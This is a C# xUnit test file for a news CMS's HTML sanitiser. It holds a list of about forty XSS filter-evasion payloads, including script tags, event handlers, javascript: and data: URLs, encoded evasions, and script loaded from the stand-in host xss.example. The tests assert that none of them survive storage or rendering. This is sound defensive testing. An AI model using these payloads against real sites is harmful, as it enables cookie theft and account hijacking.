using System.Text.RegularExpressions;
using HeadlessNews.Tests.Support;

namespace HeadlessNews.Tests.Articles;

public sealed partial class SanitiserTests(ApiFactory api) : IClassFixture<ApiFactory>
{
    /// <summary>OWASP XSS filter evasion cheat-sheet style payloads.</summary>
    public static readonly string[] Payloads =
    [
        "<script>alert('XSS')</script>",
        "<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>",
        "<IMG SRC=\"javascript:alert('XSS');\">",
        "<IMG SRC=javascript:alert('XSS')>",
        "<IMG SRC=JaVaScRiPt:alert('XSS')>",
        "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
        "<a onmouseover=\"alert(document.cookie)\">xxs link</a>",
        "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>",
        "<IMG SRC=# onmouseover=\"alert('xxs')\">",
        "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
        "<img src=x onerror=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041\">",
        "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;\">click</a>",
        "<a href=\"jav&#x09;ascript:alert('XSS');\">click</a>",
        "<a href=\"jav&#x0A;ascript:alert('XSS');\">click</a>",
        "<a href=\" &#14;  javascript:alert('XSS');\">click</a>",
        "<SCRIPT/XSS SRC=\"https://xss.example/xss.js\"></SCRIPT>",
        "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
        "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>",
        "<SCRIPT SRC=https://xss.example/xss.js?< B >",
        "<iframe src=https://xss.example/scriptlet.html <",
        "</TITLE><SCRIPT>alert(\"XSS\");</SCRIPT>",
        "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
        "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
        "<svg/onload=alert('XSS')>",
        "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
        "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
        "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
        "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K\">",
        "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
        "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
        "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
        "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
        "<DIV STYLE=\"width: expression(alert('XSS'));\">",
        "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"https://xss.example/scriptlet.html\"></OBJECT>",
        "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv\" type=\"image/svg+xml\" AllowScriptAccess=\"always\"></EMBED>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">data link</a>",
        "<a href=\"vbscript:msgbox('XSS')\">vb</a>",
        "<strong onclick=\"alert(1)\">bold</strong>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<form action=\"javascript:alert(1)\"><button>go</button></form>",
        "<details open ontoggle=alert(1)>",
        "<base href=\"javascript:alert('XSS');//\">",
    ];

    [Fact]
    public async Task No_payload_of_the_xss_corpus_survives_in_stored_blocks_or_rendered_html()
    {
        Assert.True(Payloads.Length >= 30);
        var client = await api.ClientWithScopesAsync("content:write");
        var body = Payloads.SelectMany(p => new object[]
        {
            new { type = "paragraph", html = p },
            new { type = "list", style = "bulleted", items = new[] { p } },
            new { type = "heading", level = 2, text = p },
        }).ToArray();
        var article = await client.CreateArticleAsync(new { headline = Editorial.Unique("XSS corpus"), body });
        var stored = article.GetProperty("body").ToString();
        var link = await (await client.PostAsync($"/v1/manage/articles/{article.Id()}/preview-links", null)).AssertSuccessAsync();
        var preview = await api.CreateClient().GetJsonAsync(new Uri(link.GetProperty("url").GetString()!).PathAndQuery);
        var html = preview.GetProperty("bodyHtml").GetString()!;

        foreach (var paragraph in article.GetProperty("body").EnumerateArray().Where(b => b.GetProperty("type").GetString() != "heading"))
        {
            var fragment = paragraph.TryGetProperty("html", out var h) ? h.GetString()! : string.Join("", paragraph.GetProperty("items").EnumerateArray().Select(i => i.GetString()));
            AssertHarmless(fragment);
        }
        AssertHarmless(html);
        Assert.Contains("&lt;script&gt;alert(", html, StringComparison.Ordinal);
        Assert.DoesNotContain("\\u003Cscript", stored, StringComparison.OrdinalIgnoreCase);
    }

    [Fact]
    public async Task Safe_inline_html_is_kept_and_links_get_a_safe_rel()
    {
        var client = await api.ClientWithScopesAsync("content:write");
        var article = await client.CreateArticleAsync(new
        {
            headline = Editorial.Unique("Safe"),
            body = new[] { new { type = "paragraph", html = "<strong>Bold</strong> and <em>calm</em><br><a href=\"https://example.org/a\">link</a>" } },
        });
        var html = article.GetProperty("body")[0].GetProperty("html").GetString()!;
        Assert.Contains("<strong>Bold</strong>", html, StringComparison.Ordinal);
        Assert.Contains("<em>calm</em>", html, StringComparison.Ordinal);
        Assert.Contains("href=\"https://example.org/a\"", html, StringComparison.Ordinal);
        Assert.Contains("rel=\"nofollow noopener noreferrer\"", html, StringComparison.Ordinal);
    }

    /// <summary>
    /// Inline HTML is sanitised on write and again on render, and the second time (like text without markup) is not parsed:
    /// that must give what parsing gives. Sanitised HTML sent again (made new by a trailing space) comes back the same, so
    /// the render shows exactly what was stored; text without markup is stored as the parser keeps it next to markup.
    /// </summary>
    [Fact]
    public async Task Sanitised_html_sanitises_to_itself_and_plain_text_is_kept_as_the_parser_keeps_it()
    {
        string[] plain = ["Plain words", "Spaced  out\twith a tab\nand a new line", "Quotes \"double\" and 'single', Welsh ŵ ŷ, emoji 🙂", "1 > 0 and a&b", "non\u00a0breaking", "carriage\r\nreturn"];
        var client = await api.ClientWithScopesAsync("content:write");
        string[] fragments = [.. Payloads, .. plain, .. plain.Select(p => p + "<em>x</em>"), "<a href=\"https://example.org/a?b=1&amp;c=2\" title=\"t\">link</a> and <strong>bold &amp; <em>nested</em></strong>"];
        var first = await StoredParagraphsAsync(client, fragments);
        var again = await StoredParagraphsAsync(client, [.. first.Select(h => h + " ")]);

        Assert.Equal(first, again);
        for (var i = 0; i < plain.Length; i++)
        {
            Assert.Equal(first[Payloads.Length + plain.Length + i], first[Payloads.Length + i] + "<em>x</em>");
        }
        var article = await client.CreateArticleAsync(new { headline = Editorial.Unique("Rendered"), body = first.Select(h => new { type = "paragraph", html = h }).ToArray() });
        var link = await (await client.PostAsync($"/v1/manage/articles/{article.Id()}/preview-links", null)).AssertSuccessAsync();
        var preview = await api.CreateClient().GetJsonAsync(new Uri(link.GetProperty("url").GetString()!).PathAndQuery);
        Assert.Equal(string.Concat(first.Select(h => $"<p>{h}</p>\n")), preview.GetProperty("bodyHtml").GetString());
    }

    private static async Task<List<string>> StoredParagraphsAsync(HttpClient client, string[] fragments)
    {
        var article = await client.CreateArticleAsync(new { headline = Editorial.Unique("Sanitised"), body = fragments.Select(f => new { type = "paragraph", html = f }).ToArray() });
        var stored = article.GetProperty("body").EnumerateArray().Select(b => b.GetProperty("html").GetString()!).ToList();
        Assert.Equal(fragments.Length, stored.Count);
        return stored;
    }

    private static readonly HashSet<string> RenderedElements =
        ["p", "a", "strong", "em", "br", "ul", "ol", "li", "h2", "h3", "h4", "blockquote", "footer", "figure", "figcaption", "small", "section"];

    /// <summary>Parses the HTML as a browser would and checks the DOM: only our elements, no handlers, only http(s) links.</summary>
    private static void AssertHarmless(string html)
    {
        var document = new AngleSharp.Html.Parser.HtmlParser().ParseDocument($"<html><body>{html}</body></html>");
        foreach (var element in document.Body!.QuerySelectorAll("*"))
        {
            Assert.Contains(element.LocalName, RenderedElements);
            foreach (var attribute in element.Attributes)
            {
                Assert.False(attribute.Name.StartsWith("on", StringComparison.OrdinalIgnoreCase), $"handler {attribute.Name} in {element.OuterHtml}");
                Assert.Contains(attribute.Name, (string[])["href", "rel", "class"]);
                if (attribute.Name == "href")
                {
                    Assert.Matches(SafeUrl(), attribute.Value);
                }
            }
        }
        Assert.DoesNotMatch(RawScript(), html);
    }

    [GeneratedRegex("^(https?:|mailto:)", RegexOptions.IgnoreCase)]
    private static partial Regex SafeUrl();

    [GeneratedRegex("<\\s*(script|style|iframe)", RegexOptions.IgnoreCase)]
    private static partial Regex RawScript();
}
